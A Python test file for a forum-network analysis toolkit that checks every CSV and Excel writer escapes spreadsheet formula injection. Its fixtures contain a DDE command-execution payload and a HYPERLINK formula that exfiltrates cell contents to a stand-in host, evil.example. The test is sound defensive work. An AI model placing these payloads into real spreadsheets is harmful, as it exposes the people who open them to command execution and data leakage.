"""Formula injection: every CSV and Excel file the toolkit writes is escaped.

A roster and a forum table full of spreadsheet formulas go through every
writer — ``connectana demo --data``, ``report`` (pseudonyms and ``--names``),
``export --to csv``, ``ingest --set-aside``, ``write_engagement`` (CSV and
Excel), ``export.write_tables`` and the set-aside CSV — each run as a child
process under the memory cap. No cell of any output may start with ``=``,
``+``, ``-``, ``@``, tab or CR unless it is a plain number; the hostile values
must be there, escaped with ``'`` (issue #15: they were written raw).
"""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
EVIL_GROUP = "=cmd|' /C calc'!A0"
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_ID = "@SUM(1+1)*cmd"
EVIL_THREAD = "+thread"
CAP = 2560 << 20  # as tests/hostile/conftest.py's MEMORY_CAP
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _course(folder: Path) -> Path:
    folder.mkdir()
    people = [("inst", "Teacher", "instructor", "staff")]
    people += [(f"s{i}", f"Student {i}", "student", EVIL_GROUP) for i in range(6)]
    people += [(EVIL_ID, EVIL_NAME, "student", EVIL_GROUP), ("\tlurker", "-lurks", "student", "-")]
    with open(folder / "roster.csv", "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["person", "display_name", "role", "group"])
        w.writerows(people)
    posts = []
    actors = ["inst", "s0", "s1", EVIL_ID, "s2", "s3", "s4", "s5"]
    for i, a in enumerate(actors * 3):
        parent = "" if i % 4 == 0 else str(1000 + i - 1)
        thread = EVIL_THREAD if i < 12 else "t2"
        posts.append((str(1000 + i), parent, thread, a, f"2026-01-{12 + i % 10:02d}T10:00:00Z"))
    for name in ("forum_posts.csv", "bad.csv"):
        if name == "bad.csv":
            posts.append(("2000", "", "t3", "s1", "not a time"))  # set aside
        with open(folder / name, "w", newline="") as fh:
            w = csv.writer(fh)
            w.writerow(["post_id", "parent_id", "thread_id", "author", "created"])
            w.writerows(posts)
    return folder


def _cli(*args: str, cap: int) -> None:
    code = (
        "import resource, sys; "
        f"resource.setrlimit(resource.RLIMIT_AS, ({cap}, {cap})); "
        "from connectana.cli import main; sys.exit(main(sys.argv[1:]))"
    )
    env = dict(os.environ, PYTHONPATH=str(ROOT), MPLBACKEND="Agg", OPENBLAS_NUM_THREADS="1")
    proc = subprocess.run(
        [sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=300, env=env
    )
    assert proc.returncode == 0, proc.stderr[-3000:]


def _cells(path: Path) -> list[str]:
    if path.suffix == ".xlsx":
        import openpyxl

        wb = openpyxl.load_workbook(path)
        cells = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{path.name}: live formula in {c.coordinate}"
                    if isinstance(c.value, str):
                        cells.append(c.value)
        return cells
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _all_outputs(tmp: Path, capped, cap: int) -> dict[str, Path]:
    data = _course(tmp / "course")
    key = str(tmp / "course.key")
    posts, roster = str(data / "forum_posts.csv"), str(data / "roster.csv")
    common = ["--key-file", key, "--on-error", "skip"]
    _cli("demo", "--data", str(data), "--out", str(tmp / "demo"), "--names", cap=cap)
    _cli("report", posts, "--format", "table", "--roster", roster, "--out", str(tmp / "rep"),
         *common, cap=cap)  # fmt: skip
    _cli("report", posts, "--format", "table", "--roster", roster, "--out", str(tmp / "repn"),
         "--names", *common, cap=cap)  # fmt: skip
    _cli("export", posts, "--format", "table", "--roster", roster, "--to", "csv",
         "--out", str(tmp / "exp"), *common, cap=cap)  # fmt: skip
    _cli("export", posts, "--format", "table", "--roster", roster, "--to", "csv",
         "--out", str(tmp / "expn"), "--names", *common, cap=cap)  # fmt: skip
    _cli("ingest", str(data / "bad.csv"), "--format", "table", "--out", str(tmp / "ev.parquet"),
         "--set-aside", str(tmp / "aside.csv"), "--names", *common, cap=cap)  # fmt: skip
    out = capped(
        f"""
import connectana as ca
from connectana.events import IngestReport
from connectana.export import write_tables
from connectana.metrics.engagement import write_engagement
ev = ca.read_events({posts!r}, on_error="skip")
people = ca.read_people({roster!r})
eng = ca.engagement(ev, people=people, names=True)
write_engagement(eng, {str(tmp / "eng.csv")!r})
write_engagement(eng, {str(tmp / "eng.xlsx")!r})
write_tables(ca.build_network(ev, people=people), {str(tmp / "tables")!r})
r = IngestReport()
r.set_aside_record({EVIL_NAME!r}, {EVIL_GROUP!r})
r.write_set_aside({str(tmp / "aside2.csv")!r})
""",
        cap=cap,
        timeout=300,
    )
    assert out["outcome"] == "result", out
    return {
        p.relative_to(tmp).as_posix(): p
        for p in sorted(tmp.rglob("*"))
        if p.suffix in (".csv", ".xlsx") and "course" not in p.parts
    }


@pytest.fixture(scope="module")
def outputs(tmp_path_factory, capped) -> dict[str, Path]:
    return _all_outputs(tmp_path_factory.mktemp("injection"), capped, CAP)


def test_every_writer_wrote(outputs):
    assert set(outputs) >= {
        "demo/nodes.csv",
        "demo/edges.csv",
        "rep/engagement.csv",
        "rep/isolated.csv",
        "repn/engagement.csv",
        "repn/isolated.csv",
        "exp/nodes.csv",
        "exp/edges.csv",
        "expn/nodes.csv",
        "expn/edges.csv",
        "aside.csv",
        "aside2.csv",
        "eng.csv",
        "eng.xlsx",
        "tables/nodes.csv",
        "tables/edges.csv",
    }


def test_no_cell_of_any_output_starts_a_formula(outputs):
    for name, path in outputs.items():
        for cell in _cells(path):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or NUMBER.fullmatch(
                cell
            ), f"{name}: {cell!r}"


def test_hostile_values_are_kept_escaped(outputs):
    def has(name, value):
        return "'" + value in _cells(outputs[name])

    assert has("rep/engagement.csv", EVIL_GROUP)  # the roster group, by default
    assert has("exp/nodes.csv", EVIL_GROUP)
    assert has("repn/isolated.csv", "-lurks")  # a display name, with --names
    assert has("expn/edges.csv", EVIL_ID) and has("expn/nodes.csv", "\tlurker")
    assert has("demo/nodes.csv", EVIL_ID)
    assert has("eng.csv", EVIL_ID) and has("eng.xlsx", EVIL_ID) and has("eng.xlsx", EVIL_GROUP)
    assert has("tables/edges.csv", EVIL_ID)
    assert has("aside2.csv", EVIL_GROUP) and has("aside2.csv", EVIL_NAME)


def test_numbers_stay_numbers(outputs):
    with open(outputs["demo/nodes.csv"], newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and all(NUMBER.fullmatch(r["in_degree"]) for r in rows)
